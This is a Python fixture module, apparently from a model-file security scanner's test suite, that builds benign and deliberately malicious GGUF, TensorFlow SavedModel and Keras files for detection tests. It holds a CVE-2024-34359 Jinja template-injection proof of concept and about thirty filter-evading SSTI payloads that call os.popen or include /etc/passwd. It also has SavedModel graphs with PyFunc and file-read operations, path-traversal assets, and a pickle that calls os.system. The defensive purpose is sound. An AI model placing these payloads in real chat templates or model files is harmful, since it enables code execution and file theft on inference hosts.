# ruff: noqa: E501, RUF001 - chat templates are kept verbatim (long lines, DeepSeek full-width bars)
"""Builders for non-pickle model files, benign and malicious, written for real.

Keras, h5py, onnx and safetensors files are saved by those libraries; GGUF and the
TensorFlow protobufs (no TensorFlow here) are written byte by byte from their specs.
Nothing built here is ever loaded or rendered. Shared by the format tests and the
benchmark corpus (``benchmarks/scanners``).
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import os
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

import numpy as np

# ----------------------------------------------------------------- chat templates

LLAMA3 = (
    "{% set loop_messages = messages %}{% for message in loop_messages %}{% set content = "
    "'<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n'+ message['content'] "
    "| trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}{% set content = bos_token + content %}"
    "{% endif %}{{ content }}{% endfor %}{% if add_generation_prompt %}"
    "{{ '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}{% endif %}"
)
MISTRAL = (
    "{{ bos_token }}{% for message in messages %}{% if (message['role'] == 'user') != "
    "(loop.index0 % 2 == 0) %}{{ raise_exception('Conversation roles must alternate "
    "user/assistant/user/assistant/...') }}{% endif %}{% if message['role'] == 'user' %}"
    "{{ '[INST] ' + message['content'] + ' [/INST]' }}{% elif message['role'] == 'assistant' %}"
    "{{ message['content'] + eos_token}}{% else %}{{ raise_exception('Only user and assistant "
    "roles are supported!') }}{% endif %}{% endfor %}"
)
CHATML_QWEN = (
    "{% for message in messages %}{% if loop.first and messages[0]['role'] != 'system' %}"
    "{{ '<|im_start|>system\\nYou are a helpful assistant.<|im_end|>\\n' }}{% endif %}"
    "{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>' + '\\n'}}"
    "{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
)
GEMMA = (
    "{{ bos_token }}{% if messages[0]['role'] == 'system' %}{{ raise_exception('System role "
    "not supported') }}{% endif %}{% for message in messages %}{% if (message['role'] == "
    "'user') != (loop.index0 % 2 == 0) %}{{ raise_exception('Conversation roles must "
    "alternate user/assistant/user/assistant/...') }}{% endif %}{% if (message['role'] == "
    "'assistant') %}{% set role = 'model' %}{% else %}{% set role = message['role'] %}"
    "{% endif %}{{ '<start_of_turn>' + role + '\\n' + message['content'] | trim + "
    "'<end_of_turn>\\n' }}{% endfor %}{% if add_generation_prompt %}{{'<start_of_turn>model\\n'}}"
    "{% endif %}"
)
PHI3 = (
    "{% for message in messages %}{% if message['role'] == 'system' %}{{'<|system|>\\n' + "
    "message['content'] + '<|end|>\\n'}}{% elif message['role'] == 'user' %}{{'<|user|>\\n' + "
    "message['content'] + '<|end|>\\n'}}{% elif message['role'] == 'assistant' %}"
    "{{'<|assistant|>\\n' + message['content'] + '<|end|>\\n'}}{% endif %}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|assistant|>\\n' }}{% else %}{{ eos_token }}{% endif %}"
)
ZEPHYR = """{% for message in messages %}
{% if message['role'] == 'user' %}
{{ '<|user|>\n' + message['content'] + eos_token }}
{% elif message['role'] == 'system' %}
{{ '<|system|>\n' + message['content'] + eos_token }}
{% elif message['role'] == 'assistant' %}
{{ '<|assistant|>\n'  + message['content'] + eos_token }}
{% endif %}
{% if loop.last and add_generation_prompt %}
{{ '<|assistant|>' }}
{% endif %}
{% endfor %}"""
# Llama 3.1 style: namespace, tools, tojson, strftime_now, items, loop controls.
LLAMA31_TOOLS = """{{- bos_token }}
{%- if custom_tools is defined %}{%- set tools = custom_tools %}{%- endif %}
{%- if not tools_in_user_message is defined %}{%- set tools_in_user_message = true %}{%- endif %}
{%- if not date_string is defined %}
    {%- if strftime_now is defined %}{%- set date_string = strftime_now("%d %b %Y") %}
    {%- else %}{%- set date_string = "26 Jul 2024" %}{%- endif %}
{%- endif %}
{%- if messages[0]['role'] == 'system' %}
    {%- set system_message = messages[0]['content']|trim %}
    {%- set messages = messages[1:] %}
{%- else %}{%- set system_message = "" %}{%- endif %}
{{- "<|start_header_id|>system<|end_header_id|>\\n\\n" }}
{{- "Cutting Knowledge Date: December 2023\\n" }}
{{- "Today Date: " + date_string + "\\n\\n" }}
{%- if tools is not none and not tools_in_user_message %}
    {%- for t in tools %}{{- t | tojson(indent=4) }}{{- "\\n\\n" }}{%- endfor %}
{%- endif %}
{{- system_message }}{{- "<|eot_id|>" }}
{%- set ns = namespace(found=false) %}
{%- for message in messages %}
    {%- if message.role == 'tool' and ns.found %}{%- continue %}{%- endif %}
    {%- if not (message.role == 'ipython' or message.role == 'tool' or 'tool_calls' in message) %}
        {{- '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n'+ message['content'] | trim + '<|eot_id|>' }}
    {%- elif 'tool_calls' in message %}
        {%- set tool_call = message.tool_calls[0].function %}
        {{- '<|start_header_id|>assistant<|end_header_id|>\\n\\n' -}}
        {{- '{"name": "' + tool_call.name + '", ' }}
        {%- for arg_name, arg_val in tool_call.arguments | items %}
            {{- '"' + arg_name + '": ' + arg_val | tojson }}
            {%- if not loop.last %}{{- ", " }}{%- endif %}
        {%- endfor %}
        {{- "}<|eot_id|>" }}
        {%- set ns.found = true %}
    {%- else %}
        {{- "<|start_header_id|>ipython<|end_header_id|>\\n\\n" }}
        {%- if message.content is mapping or message.content is iterable %}
            {{- message.content | tojson }}
        {%- else %}{{- message.content }}{%- endif %}
        {{- "<|eot_id|>" }}
    {%- endif %}
{%- endfor %}
{%- set system_msgs = messages | selectattr('role', 'equalto', 'system') | list %}
{%- if add_generation_prompt %}{{- '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}{%- endif %}
"""
# SmolLM3/assistant-mask style: {% generation %} blocks and string methods.
GENERATION_BLOCK = """{%- for message in messages %}
{%- if message.role == 'assistant' %}
{{- '<|im_start|>assistant\\n' }}{% generation %}{{- message.content.split('</think>')[-1].lstrip() }}{{- '<|im_end|>\\n' }}{% endgeneration %}
{%- else %}{{- '<|im_start|>' + message.role + '\\n' + message.content + '<|im_end|>\\n' }}
{%- endif %}
{%- endfor %}
{%- if add_generation_prompt %}{{- '<|im_start|>assistant\\n' }}{%- endif %}"""

# Qwen2.5 style: tools as JSON, tool calls, tool responses grouped.
QWEN25_TOOLS = """{%- if tools %}
    {{- '<|im_start|>system\\n' }}
    {%- if messages[0]['role'] == 'system' %}{{- messages[0]['content'] }}
    {%- else %}{{- 'You are Qwen, created by Alibaba Cloud. You are a helpful assistant.' }}{%- endif %}
    {{- "\\n\\n# Tools\\n\\nYou may call one or more functions to assist with the user query.\\n\\n<tools>" }}
    {%- for tool in tools %}{{- "\\n" }}{{- tool | tojson }}{%- endfor %}
    {{- "\\n</tools>\\n\\nFor each function call, return a json object within <tool_call></tool_call> XML tags:\\n<tool_call>\\n{\\"name\\": <function-name>, \\"arguments\\": <args-json-object>}\\n</tool_call><|im_end|>\\n" }}
{%- else %}
    {%- if messages[0]['role'] == 'system' %}{{- '<|im_start|>system\\n' + messages[0]['content'] + '<|im_end|>\\n' }}{%- endif %}
{%- endif %}
{%- for message in messages %}
    {%- if (message.role == "user") or (message.role == "system" and not loop.first) or (message.role == "assistant" and not message.tool_calls) %}
        {{- '<|im_start|>' + message.role + '\\n' + message.content + '<|im_end|>' + '\\n' }}
    {%- elif message.role == "assistant" %}
        {{- '<|im_start|>' + message.role }}
        {%- if message.content %}{{- '\\n' + message.content }}{%- endif %}
        {%- for tool_call in message.tool_calls %}
            {%- if tool_call.function is defined %}{%- set tool_call = tool_call.function %}{%- endif %}
            {{- '\\n<tool_call>\\n{"name": "' }}{{- tool_call.name }}{{- '", "arguments": ' }}
            {{- tool_call.arguments | tojson }}{{- '}\\n</tool_call>' }}
        {%- endfor %}
        {{- '<|im_end|>\\n' }}
    {%- elif message.role == "tool" %}
        {%- if (loop.index0 == 0) or (messages[loop.index0 - 1].role != "tool") %}{{- '<|im_start|>user' }}{%- endif %}
        {{- '\\n<tool_response>\\n' }}{{- message.content }}{{- '\\n</tool_response>' }}
        {%- if loop.last or (messages[loop.index0 + 1].role != "tool") %}{{- '<|im_end|>\\n' }}{%- endif %}
    {%- endif %}
{%- endfor %}
{%- if add_generation_prompt %}{{- '<|im_start|>assistant\\n' }}{%- endif %}
"""
# DeepSeek-R1 style: namespace state, think-block stripping, unicode markers.
DEEPSEEK_R1 = """{% if not add_generation_prompt is defined %}{% set add_generation_prompt = false %}{% endif %}{% set ns = namespace(is_first=false, is_tool=false, is_output_first=true, system_prompt='') %}{%- for message in messages %}{%- if message['role'] == 'system' %}{% set ns.system_prompt = message['content'] %}{%- endif %}{%- endfor %}{{bos_token}}{{ns.system_prompt}}{%- for message in messages %}{%- if message['role'] == 'user' %}{%- set ns.is_tool = false -%}{{'<｜User｜>' + message['content']}}{%- endif %}{%- if message['role'] == 'assistant' and message['content'] is none %}{%- set ns.is_tool = false -%}{%- for tool in message['tool_calls']%}{%- if not ns.is_first %}{{'<｜Assistant｜><｜tool▁calls▁begin｜><｜tool▁call▁begin｜>' + tool['type'] + '<｜tool▁sep｜>' + tool['function']['name'] + '\\n' + '```json' + '\\n' + tool['function']['arguments'] + '\\n' + '```' + '<｜tool▁call▁end｜>'}}{%- set ns.is_first = true -%}{%- endif %}{%- endfor %}{%- endif %}{%- if message['role'] == 'assistant' and message['content'] is not none %}{% set content = message['content'] %}{% if '</think>' in content %}{% set content = content.split('</think>')[-1] %}{% endif %}{{'<｜Assistant｜>' + content + '<｜end▁of▁sentence｜>'}}{%- endif %}{%- endfor -%}{% if add_generation_prompt and not ns.is_tool %}{{'<｜Assistant｜><think>\\n'}}{% endif %}"""
# Hermes-2-Pro style: macros turning JSON schemas into Python type names.
HERMES_TOOLS = """{%- macro json_to_python_type(json_spec) %}
{%- set basic_type_map = {"string": "str", "number": "float", "integer": "int", "boolean": "bool"} %}
{%- if basic_type_map[json_spec.type] is defined %}{{- basic_type_map[json_spec.type] }}
{%- elif json_spec.type == "array" %}{{- "list[" +  json_to_python_type(json_spec|items) + "]" }}
{%- elif json_spec.type == "object" %}
    {%- if json_spec.additionalProperties is defined %}{{- "dict[str, " + json_to_python_type(json_spec.additionalProperties) + ']' }}
    {%- else %}{{- "dict" }}{%- endif %}
{%- elif json_spec.type is iterable %}{{- "Union[" }}
    {%- for t in json_spec.type %}{{- json_to_python_type({"type": t}) }}{%- if not loop.last %}{{- "," }}{%- endif %}{%- endfor %}{{- "]" }}
{%- else %}{{- "Any" }}{%- endif %}
{%- endmacro %}
{{- bos_token }}{{- "<|im_start|>system\\nYou are a function calling AI model. <tools> " }}
{%- for tool in tools %}
    {%- if tool.function is defined %}{%- set tool = tool.function %}{%- endif %}
    {{- '{"type": "function", "function": ' }}{{- '{"name": "' + tool.name + '", ' }}
    {{- '"description": "' + tool.name + '(' }}
    {%- for param_name, param_fields in tool.parameters.properties|items %}
        {{- param_name + ": " + json_to_python_type(param_fields) }}{%- if not loop.last %}{{- ", " }}{%- endif %}
    {%- endfor %}
    {{- ")" }}{%- if tool.return is defined %}{{- " -> " + json_to_python_type(tool.return) }}{%- endif %}
    {{- " - " + tool.description + "\\n\\n" }}
    {%- for param_name, param_fields in tool.parameters.properties|items %}
        {%- if loop.first %}{{- "    Args:\\n" }}{%- endif %}
        {{- "        " + param_name + "(" + json_to_python_type(param_fields) + "): " + param_fields.description|trim }}
    {%- endfor %}
    {{- '"' }}{{- ', "parameters": ' }}{{- tool.parameters|tojson }}{{- "}" }}
{%- endfor %}
{{- " </tools><|im_end|>\\n" }}
{%- for message in messages %}
    {%- if message.role == "user" or message.role == "system" or (message.role == "assistant" and message.tool_calls is not defined) %}
        {{- '<|im_start|>' + message.role + '\\n' + message.content + '<|im_end|>' + '\\n' }}
    {%- elif message.role == "tool" %}
        {{- '<|im_start|>tool\\n<tool_response>\\n' + message.content|string + '\\n</tool_response><|im_end|>\\n' }}
    {%- endif %}
{%- endfor %}
{%- if add_generation_prompt %}{{- '<|im_start|>assistant\\n' }}{%- endif %}
"""
# Gemma 3 style: multimodal content lists, role renaming.
GEMMA3 = """{{ bos_token }}
{%- if messages[0]['role'] == 'system' -%}
    {%- if messages[0]['content'] is string -%}{%- set first_user_prefix = messages[0]['content'] + '\\n\\n' -%}
    {%- else -%}{%- set first_user_prefix = messages[0]['content'][0]['text'] + '\\n\\n' -%}{%- endif -%}
    {%- set loop_messages = messages[1:] -%}
{%- else -%}{%- set first_user_prefix = "" -%}{%- set loop_messages = messages -%}{%- endif -%}
{%- for message in loop_messages -%}
    {%- if (message['role'] == 'user') != (loop.index0 % 2 == 0) -%}
        {{ raise_exception("Conversation roles must alternate user/assistant/user/assistant/...") }}
    {%- endif -%}
    {%- if (message['role'] == 'assistant') -%}{%- set role = "model" -%}{%- else -%}{%- set role = message['role'] -%}{%- endif -%}
    {{ '<start_of_turn>' + role + '\\n' + (first_user_prefix if loop.first else "") }}
    {%- if message['content'] is string -%}{{ message['content'] | trim }}
    {%- elif message['content'] is iterable -%}
        {%- for item in message['content'] -%}
            {%- if item['type'] == 'image' -%}{{ '<start_of_image>' }}
            {%- elif item['type'] == 'text' -%}{{ item['text'] | trim }}{%- endif -%}
        {%- endfor -%}
    {%- else -%}{{ raise_exception("Invalid content type") }}{%- endif -%}
    {{ '<end_of_turn>\\n' }}
{%- endfor -%}
{%- if add_generation_prompt -%}{{'<start_of_turn>model\\n'}}{%- endif -%}
"""

BENIGN_TEMPLATES: dict[str, str] = {
    "llama3": LLAMA3,
    "mistral": MISTRAL,
    "chatml_qwen": CHATML_QWEN,
    "gemma": GEMMA,
    "phi3": PHI3,
    "zephyr": ZEPHYR,
    "llama31_tools": LLAMA31_TOOLS,
    "generation_block": GENERATION_BLOCK,
    "qwen25_tools": QWEN25_TOOLS,
    "deepseek_r1": DEEPSEEK_R1,
    "hermes_tools": HERMES_TOOLS,
    "gemma3": GEMMA3,
}

# CVE-2024-34359 proof of concept (llama-cpp-python), verbatim in structure.
SSTI_CVE_2024_34359 = (
    '{% for x in ().__class__.__base__.__subclasses__() %}{% if "warning" in x.__name__ %}'
    "{{x()._module.__builtins__['__import__']('os').popen(\"touch /tmp/retr0reg\")}}"
    "{%endif%}{% endfor %}"
)
# technique name -> (template, rule suffix expected)
SSTI_TEMPLATES: dict[str, tuple[str, str]] = {
    "cve_2024_34359_subclasses": (SSTI_CVE_2024_34359, "ssti"),
    "self_init_globals": (
        "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
        "ssti",
    ),
    "template_reference_context": (
        "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id') }}",
        "ssti",
    ),
    "lipsum_globals_subscript": ("{{ lipsum.__globals__['os'].popen('id').read() }}", "ssti"),
    "cycler_globals": ("{{ cycler.__init__.__globals__.os.popen('id').read() }}", "ssti"),
    "joiner_globals": ("{{ joiner.__init__.__globals__.os.popen('id').read() }}", "ssti"),
    "namespace_globals": ("{{ namespace.__init__.__globals__.os.popen('id').read() }}", "ssti"),
    "attr_filter_literal": ("{{ ()|attr('__class__')|attr('__base__') }}", "ssti"),
    "attr_tilde_concat": ("{{ ()|attr('__cla' ~ 'ss__')|attr('__ba' ~ 'se__') }}", "ssti"),
    "attr_plus_concat": ("{{ ()|attr('__cla' + 'ss__') }}", "ssti"),
    "attr_set_variables": (
        "{% set a = '__cla' %}{% set b = 'ss__' %}{{ ()|attr(a ~ b) }}",
        "ssti",
    ),
    "attr_join_list": ("{{ ()|attr(['__cla', 'ss__']|join) }}", "ssti"),
    "attr_replace": ("{{ ()|attr('__claXXss__'|replace('XX', '')) }}", "ssti"),
    "attr_format_percent_c": ("{{ ()|attr('%c%cclass%c%c'|format(95, 95, 95, 95)) }}", "ssti"),
    "attr_reverse_slice": ("{{ ()|attr('__ssalc__'[::-1]) }}", "ssti"),
    "attr_reverse_filter": ("{{ ()|attr('__ssalc__'|reverse) }}", "ssti"),
    "attr_hex_escapes": ("{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f') }}", "ssti"),
    "attr_dict_keyword_first": ("{{ ()|attr(dict(__class__=1)|first) }}", "ssti"),
    "attr_string_multiply": ("{{ ()|attr('_' * 2 ~ 'class' ~ '_' * 2) }}", "ssti"),
    "attr_lower_method": ("{{ ()|attr('__CLASS__'.lower()) }}", "ssti"),
    "subscript_concat": ("{{ messages['__cla' ~ 'ss__'] }}", "ssti"),
    "map_attribute_dunder": ("{{ messages|map(attribute='__class__')|list }}", "ssti"),
    "str_format_field_path": ("{{ ('{0.__cla' ~ 'ss__}').format(messages) }}", "ssti"),
    "config_globals": ("{{ config.__class__.__init__.__globals__['os'].popen('id') }}", "ssti"),
    "request_application": ("{{ request.application.__globals__.__builtins__ }}", "ssti"),
    "attr_set_block": (
        "{% set n %}__class__{% endset %}{{ ()|attr(n) }}",
        "ssti",
    ),
    "map_attr_filter": ("{{ [()]|map('attr', '__cla' ~ 'ss__')|list }}", "ssti"),
    "filter_block_attr": ("{% filter attr('__class__') %}{% endfilter %}", "ssti"),
    "subscript_with_chars_from_a_repr": (
        "{% set u = (raise_exception|string)[25] %}{{ ()[u * 2 ~ 'class' ~ u * 2] }}",
        "dynamic-attribute",
    ),
    "lipsum_alone": ("{{ lipsum }}", "suspicious-global"),
    "attr_from_message_content": (
        "{% for m in messages %}{{ ()|attr(m.content) }}{% endfor %}",
        "dynamic-attribute",
    ),
    "include_local_file": ("{% include '/etc/passwd' %}", "include"),
    "unparsable_with_payload": ("{% for x in ().__class__.__mro__ %}{{ x", "ssti"),
}

# ----------------------------------------------------------------- protobuf encoding


def _varint(n: int) -> bytes:
    out = bytearray()
    n &= (1 << 64) - 1
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def pb_varint(num: int, value: int) -> bytes:
    return _varint(num << 3) + _varint(value)


def pb_bytes(num: int, data: bytes) -> bytes:
    return _varint(num << 3 | 2) + _varint(len(data)) + data


def pb_str(num: int, text: str) -> bytes:
    return pb_bytes(num, text.encode())


def tf_node(name: str, op: str, inputs: tuple[str, ...] = (), **attrs: str) -> bytes:
    out = pb_str(1, name) + pb_str(2, op) + b"".join(pb_str(3, i) for i in inputs)
    for key, value in attrs.items():
        out += pb_bytes(5, pb_str(1, key) + pb_bytes(2, pb_str(2, value)))
    return out


def tf_function(name: str, nodes: list[bytes]) -> bytes:
    return pb_bytes(1, pb_str(1, name)) + b"".join(pb_bytes(3, n) for n in nodes)


def tf_graph(nodes: list[bytes], functions: list[bytes] = ()) -> bytes:  # type: ignore[assignment]
    out = b"".join(pb_bytes(1, n) for n in nodes)
    if functions:
        out += pb_bytes(2, b"".join(pb_bytes(1, f) for f in functions))
    return out + pb_bytes(4, pb_varint(1, 1882))


def saved_model(graph: bytes, assets: tuple[str, ...] = ()) -> bytes:
    meta_info = pb_str(4, "serve") + pb_str(5, "2.17.0") + pb_str(6, "v2.17.0-rc1-2-gad0b4e8")
    saver = pb_str(1, "saver_filename:0") + pb_str(2, "StatefulPartitionedCall_1:0")
    meta = pb_bytes(1, meta_info) + pb_bytes(2, graph) + pb_bytes(3, saver)
    for i, asset in enumerate(assets):
        meta += pb_bytes(
            6, pb_bytes(1, pb_str(1, f"asset_path_initializer_{i}:0")) + pb_str(2, asset)
        )
    return pb_varint(1, 1) + pb_bytes(2, meta)


def _tf2_functions(serving_extra: list[bytes] = ()) -> list[bytes]:  # type: ignore[assignment]
    serving = [
        tf_node("dense/MatMul/ReadVariableOp", "ReadVariableOp", ("readvariableop_resource",)),
        tf_node("dense/MatMul", "MatMul", ("inputs", "dense/MatMul/ReadVariableOp")),
        tf_node("dense/BiasAdd", "BiasAdd", ("dense/MatMul", "dense/BiasAdd/ReadVariableOp")),
        tf_node("dense/Relu", "Relu", ("dense/BiasAdd",)),
        tf_node("Identity", "Identity", ("dense/Relu",)),
        *serving_extra,
    ]
    save = [
        tf_node("StaticRegexFullMatch", "StaticRegexFullMatch", ("file_prefix",)),
        tf_node("Const", "Const"),
        tf_node("Select", "Select", ("StaticRegexFullMatch", "Const", "Const_1")),
        tf_node("StringJoin", "StringJoin", ("file_prefix", "Select")),
        tf_node("ShardedFilename", "ShardedFilename", ("StringJoin", "ShardedFilename/shard")),
        tf_node("SaveV2", "SaveV2", ("ShardedFilename", "SaveV2/tensor_names")),
        tf_node("MergeV2Checkpoints", "MergeV2Checkpoints", ("ShardedFilename",)),
        tf_node("Identity", "Identity", ("file_prefix",)),
    ]
    restore = [
        tf_node("RestoreV2", "RestoreV2", ("file_prefix", "RestoreV2/tensor_names")),
        tf_node("AssignVariableOp", "AssignVariableOp", ("resource", "RestoreV2")),
        tf_node("NoOp", "NoOp"),
    ]
    return [
        tf_function("__inference_serving_default_1234", serving),
        tf_function("__inference__traced_save_5678", save),
        tf_function("__inference__traced_restore_5712", restore),
    ]


def _tf2_graph(serving_extra: list[bytes] = (), outer_extra: list[bytes] = ()) -> bytes:  # type: ignore[assignment]
    nodes = [
        tf_node("serving_default_inputs", "Placeholder"),
        tf_node("dense/kernel", "VarHandleOp"),
        tf_node("StatefulPartitionedCall", "StatefulPartitionedCall", ("serving_default_inputs",)),
        tf_node("saver_filename", "Placeholder"),
        tf_node("StatefulPartitionedCall_1", "StatefulPartitionedCall", ("saver_filename",)),
        *outer_extra,
    ]
    return tf_graph(nodes, _tf2_functions(serving_extra))


def savedmodel_benign() -> bytes:
    return saved_model(_tf2_graph(), assets=("vocab.txt",))


def savedmodel_tf1_benign() -> bytes:
    nodes = [
        tf_node("x", "Placeholder"),
        tf_node("w", "VariableV2"),
        tf_node("y", "MatMul", ("x", "w")),
        tf_node("save/Const", "Const"),
        tf_node("save/SaveV2", "SaveV2", ("save/Const",)),
        tf_node("save/RestoreV2", "RestoreV2", ("save/Const",)),
        tf_node("save/Assign", "Assign", ("w", "save/RestoreV2")),
    ]
    return saved_model(tf_graph(nodes))


def frozen_graph_benign() -> bytes:
    nodes = [
        tf_node("input", "Placeholder"),
        tf_node("weights", "Const"),
        tf_node("logits", "MatMul", ("input", "weights")),
        tf_node("probs", "Softmax", ("logits",)),
    ]
    return tf_graph(nodes)


def keras_metadata_pb(layers: list[dict[str, object]]) -> bytes:
    """``keras_metadata.pb`` (SavedMetadata) as tf.keras 2 writes it next to saved_model.pb."""
    nodes = [{"name": "sequential", "class_name": "Sequential", "config": {"name": "sequential"}}]
    out = b""
    for i, meta in enumerate(nodes + layers):
        ident = "_tf_keras_sequential" if i == 0 else "_tf_keras_layer"
        obj = pb_varint(2, i) + pb_str(3, "root" if i == 0 else f"root.layer-{i - 1}")
        obj += pb_str(4, ident) + pb_str(5, json.dumps(meta)) + pb_bytes(6, pb_varint(1, 2))
        out += pb_bytes(1, obj)
    return out


_TF_LAMBDA_META = {
    "name": "lambda",
    "class_name": "Lambda",
    "config": {"name": "lambda", "function": ["<b64>", None, None], "function_type": "lambda"},
}
_TF_DENSE_META = {"name": "dense", "class_name": "Dense", "config": {"units": 2}}


def saved_model_with_object_graph(metadata: list[dict[str, object]]) -> bytes:
    """A SavedModel whose object graph keeps Keras layer metadata (TF 2.0-2.4 layout)."""
    graph = _tf2_graph()
    objects = b"".join(
        pb_bytes(1, pb_bytes(4, pb_str(1, "_tf_keras_layer") + pb_str(3, json.dumps(m))))
        for m in metadata
    )
    meta_info = pb_str(4, "serve") + pb_str(5, "2.4.0")
    meta = pb_bytes(1, meta_info) + pb_bytes(2, graph) + pb_bytes(7, objects)
    return pb_varint(1, 1) + pb_bytes(2, meta)


SAVEDMODEL_ATTACKS: dict[str, tuple[Callable[[], bytes], str]] = {
    "pyfunc_in_serving_function": (
        lambda: saved_model(
            _tf2_graph([tf_node("PyFunc", "PyFunc", ("inputs",), token="pyfunc_0")])
        ),
        "savedmodel-python-op",
    ),
    "eager_pyfunc_in_graph": (
        lambda: saved_model(_tf2_graph(outer_extra=[tf_node("e", "EagerPyFunc", ("x",))])),
        "savedmodel-python-op",
    ),
    "pyfunc_stateless": (
        lambda: saved_model(_tf2_graph([tf_node("p", "PyFuncStateless", ("inputs",))])),
        "savedmodel-python-op",
    ),
    "read_file_etc_passwd": (
        lambda: saved_model(
            _tf2_graph([tf_node("path", "Const"), tf_node("ReadFile", "ReadFile", ("path",))])
        ),
        "savedmodel-file-read-op",
    ),
    "write_file": (
        lambda: saved_model(_tf2_graph([tf_node("w", "WriteFile", ("fname", "contents"))])),
        "savedmodel-file-write-op",
    ),
    "matching_files": (
        lambda: saved_model(_tf2_graph([tf_node("m", "MatchingFiles", ("pattern",))])),
        "savedmodel-file-read-op",
    ),
    "savev2_in_serving_function": (
        lambda: saved_model(_tf2_graph([tf_node("exfil", "SaveV2", ("prefix",))])),
        "savedmodel-checkpoint-op-misplaced",
    ),
    "print_v2_to_file": (
        lambda: saved_model(
            _tf2_graph([tf_node("p", "PrintV2", ("x",), output_stream="file:///tmp/exfil.txt")])
        ),
        "savedmodel-file-write-op",
    ),
    "asset_path_traversal": (
        lambda: saved_model(_tf2_graph(), assets=("../../../../etc/passwd",)),
        "savedmodel-asset-path-traversal",
    ),
    "keras_metadata_pb_lambda": (
        lambda: keras_metadata_pb([_TF_DENSE_META, _TF_LAMBDA_META]),
        "keras-lambda-layer",
    ),
    "object_graph_keras_lambda": (
        lambda: saved_model_with_object_graph([_TF_DENSE_META, _TF_LAMBDA_META]),
        "keras-lambda-layer",
    ),
    "frozen_graph_pyfunc": (
        lambda: tf_graph([tf_node("input", "Placeholder"), tf_node("evil", "PyFunc", ("input",))]),
        "savedmodel-python-op",
    ),
}

# ----------------------------------------------------------------- GGUF

GGUF_U32, GGUF_F32, GGUF_BOOL, GGUF_STR, GGUF_ARR, GGUF_U64 = 4, 6, 7, 8, 9, 10


def _gguf_str(s: str | bytes, v1: bool = False) -> bytes:
    data = s.encode() if isinstance(s, str) else s
    return struct.pack("<I" if v1 else "<Q", len(data)) + data


def _gguf_value(vtype: int, value: object, v1: bool) -> bytes:
    if vtype == GGUF_STR:
        assert isinstance(value, str | bytes)
        return _gguf_str(value, v1)
    if vtype == GGUF_ARR:
        etype, items = value  # type: ignore[misc]
        head = struct.pack("<I", etype) + struct.pack("<I" if v1 else "<Q", len(items))
        return head + b"".join(_gguf_value(etype, item, v1) for item in items)
    code = {0: "<B", 4: "<I", 5: "<i", 6: "<f", 7: "<?", 10: "<Q", 11: "<q", 12: "<d"}[vtype]
    return struct.pack(code, value)


def gguf_bytes(
    kvs: list[tuple[str, int, object]],
    tensors: list[tuple[str, tuple[int, ...], int, bytes]] = (),  # type: ignore[assignment]
    *,
    version: int = 3,
    alignment: int = 32,
) -> bytes:
    """A GGUF file: metadata ``kvs`` and ``tensors`` (name, dims, ggml type, data bytes)."""
    v1 = version == 1
    count = "<I" if v1 else "<Q"
    out = b"GGUF" + struct.pack("<I", version)
    out += struct.pack(count, len(tensors)) + struct.pack(count, len(kvs))
    for key, vtype, value in kvs:
        out += _gguf_str(key, v1) + struct.pack("<I", vtype) + _gguf_value(vtype, value, v1)
    offset = 0
    blobs = b""
    for name, dims, ggml_type, data in tensors:
        out += _gguf_str(name, v1) + struct.pack("<I", len(dims))
        out += b"".join(struct.pack(count, d) for d in dims)
        out += struct.pack("<I", ggml_type) + struct.pack("<Q", offset)
        pad = -len(data) % alignment
        blobs += data + b"\0" * pad
        offset += len(data) + pad
    out += b"\0" * (-len(out) % alignment)
    return out + blobs


def _llama_kvs(template: str | None = LLAMA3) -> list[tuple[str, int, object]]:
    tokens = ["<unk>", "<s>", "</s>", *[f"tok{i}" for i in range(61)]]
    kvs: list[tuple[str, int, object]] = [
        ("general.architecture", GGUF_STR, "llama"),
        ("general.name", GGUF_STR, "tiny-test-llama"),
        ("general.alignment", GGUF_U32, 32),
        ("llama.context_length", GGUF_U32, 2048),
        ("llama.embedding_length", GGUF_U32, 64),
        ("llama.block_count", GGUF_U32, 1),
        ("tokenizer.ggml.model", GGUF_STR, "llama"),
        ("tokenizer.ggml.tokens", GGUF_ARR, (GGUF_STR, tokens)),
        ("tokenizer.ggml.scores", GGUF_ARR, (GGUF_F32, [0.0] * len(tokens))),
        ("tokenizer.ggml.add_bos_token", GGUF_BOOL, True),
    ]
    if template is not None:
        kvs.append(("tokenizer.chat_template", GGUF_STR, template))
    return kvs


def _llama_tensors() -> list[tuple[str, tuple[int, ...], int, bytes]]:
    f32 = np.arange(64 * 4, dtype=np.float32).tobytes()
    q8_0 = (b"\x00\x3c" + bytes(32)) * (64 * 2 // 32)  # 2 rows of 64, blocks of 32 (34 B)
    return [("token_embd.weight", (64, 4), 0, f32), ("blk.0.attn_q.weight", (64, 2), 8, q8_0)]


def gguf_benign(version: int = 3, template: str | None = LLAMA3) -> bytes:
    return gguf_bytes(_llama_kvs(template), _llama_tensors(), version=version)


def _zip_with_pickle() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr(
            "archive/data.pkl",
            b"\x80\x02cos\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03.",
        )
    return buf.getvalue()


def _gguf_huge_kv_count() -> bytes:
    data = bytearray(gguf_benign())
    data[16:24] = struct.pack("<Q", 1 << 60)
    return bytes(data)


def _gguf_huge_string() -> bytes:
    kvs = [("general.architecture", GGUF_STR, "llama")]
    data = gguf_bytes(kvs)
    # key length of the first pair claims far more bytes than the file holds
    return data[:24] + struct.pack("<Q", 1 << 40) + data[32:]


def _gguf_huge_array() -> bytes:
    head = b"GGUF" + struct.pack("<IQQ", 3, 0, 1)
    return (
        head + _gguf_str("tokenizer.ggml.tokens") + struct.pack("<IIQ", GGUF_ARR, GGUF_STR, 1 << 50)
    )


GGUF_ATTACKS: dict[str, tuple[Callable[[], bytes], str]] = {
